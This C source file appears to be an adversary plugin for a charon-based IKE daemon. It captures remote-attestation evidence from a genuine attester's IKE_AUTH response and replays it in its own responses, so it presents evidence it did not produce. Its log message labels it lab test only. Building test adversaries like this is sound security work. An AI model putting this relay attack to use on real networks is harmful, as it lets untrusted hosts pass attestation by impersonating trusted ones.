/*
 * Copyright (C) 2026 ratkn developers
 *
 * This program is free software; you can redistribute it and/or modify it
 * under the terms of the GNU General Public License as published by the
 * Free Software Foundation; either version 2 of the License, or (at your
 * option) any later version.  See <http://www.fsf.org/copyleft/gpl.txt>.
 *
 * This program is distributed in the hope that it will be useful, but
 * WITHOUT ANY WARRANTY; without even the implied warranty of MERCHANTABILITY
 * or FITNESS FOR A PARTICULAR PURPOSE.  See the GNU General Public License
 * for more details.
 */

#include "relay_plugin.h"

#include <ratkn_types.h>

#include <daemon.h>
#include <threading/mutex.h>
#include <encoding/payloads/notify_payload.h>

typedef struct private_relay_plugin_t private_relay_plugin_t;

/**
 * Private data of the relay adversary.
 */
struct private_relay_plugin_t {

	/**
	 * Public interface.
	 */
	relay_plugin_t public;

	/**
	 * Listener hooking IKE_AUTH messages
	 */
	listener_t listener;

	/**
	 * Last evidence received from a genuine attester
	 */
	chunk_t captured;

	/**
	 * Lock for captured
	 */
	mutex_t *mutex;
};

/**
 * Replace the RATKN_EVIDENCE in an outgoing message with the captured one
 */
static void forward(private_relay_plugin_t *this, ike_sa_t *ike_sa,
					message_t *message)
{
	enumerator_t *enumerator;
	payload_t *payload;
	notify_payload_t *notify;

	enumerator = message->create_payload_enumerator(message);
	while (enumerator->enumerate(enumerator, &payload))
	{
		if (payload->get_type(payload) == PLV2_NOTIFY)
		{
			notify = (notify_payload_t*)payload;
			if (notify->get_notify_type(notify) == RATKN_NOTIFY_EVIDENCE)
			{
				message->remove_payload_at(message, enumerator);
				payload->destroy(payload);
			}
		}
	}
	enumerator->destroy(enumerator);
	message->add_notify(message, FALSE, RATKN_NOTIFY_EVIDENCE, this->captured);
	DBG1(DBG_IKE, "relay adversary: forwarding %zu bytes of captured "
		 "evidence to '%Y'", this->captured.len, ike_sa->get_other_id(ike_sa));
}

/**
 * Implements listener_t.message; the listener is not the first member
 */
static bool message_hook(listener_t *listener, ike_sa_t *ike_sa,
						 message_t *message, bool incoming, bool plain)
{
	private_relay_plugin_t *this;
	notify_payload_t *notify;

	this = (private_relay_plugin_t*)((char*)listener -
									 offsetof(private_relay_plugin_t, listener));

	if (!plain || message->get_exchange_type(message) != IKE_AUTH ||
		message->get_request(message))
	{
		return TRUE;
	}
	this->mutex->lock(this->mutex);
	if (incoming)
	{	/* a genuine attester's response to us as relying party */
		notify = message->get_notify(message, RATKN_NOTIFY_EVIDENCE);
		if (notify)
		{
			chunk_free(&this->captured);
			this->captured = chunk_clone(
								notify->get_notification_data(notify));
			DBG1(DBG_IKE, "relay adversary: captured %zu bytes of evidence "
				 "from '%Y'", this->captured.len,
				 ike_sa->get_other_id(ike_sa));
		}
	}
	else if (this->captured.len && message->get_payload(message, PLV2_AUTH))
	{	/* our response as attester */
		forward(this, ike_sa, message);
	}
	this->mutex->unlock(this->mutex);
	return TRUE;
}

METHOD(plugin_t, get_name, char*,
	private_relay_plugin_t *this)
{
	return "ratkn-relay";
}

/**
 * Register the listener
 */
static bool plugin_cb(private_relay_plugin_t *this,
					  plugin_feature_t *feature, bool reg, void *cb_data)
{
	if (reg)
	{
		charon->bus->add_listener(charon->bus, &this->listener);
	}
	else
	{
		charon->bus->remove_listener(charon->bus, &this->listener);
	}
	return TRUE;
}

METHOD(plugin_t, get_features, int,
	private_relay_plugin_t *this, plugin_feature_t *features[])
{
	static plugin_feature_t f[] = {
		PLUGIN_CALLBACK((plugin_feature_callback_t)plugin_cb, NULL),
			PLUGIN_PROVIDE(CUSTOM, "ratkn-relay"),
				/* register after ratkn, so our hook sees its evidence */
				PLUGIN_DEPENDS(CUSTOM, "ratkn"),
	};
	*features = f;
	return countof(f);
}

METHOD(plugin_t, destroy, void,
	private_relay_plugin_t *this)
{
	chunk_free(&this->captured);
	this->mutex->destroy(this->mutex);
	free(this);
}

/*
 * Described in header
 */
plugin_t *ratkn_relay_plugin_create()
{
	private_relay_plugin_t *this;

	INIT(this,
		.public = {
			.plugin = {
				.get_name = _get_name,
				.get_features = _get_features,
				.destroy = _destroy,
			},
		},
		.listener = {
			.message = message_hook,
		},
		.mutex = mutex_create(MUTEX_TYPE_DEFAULT),
	);
	DBG1(DBG_CFG, "relay adversary loaded: this charon forwards ratkn "
		 "evidence it did not produce (lab test only)");
	return &this->public.plugin;
}
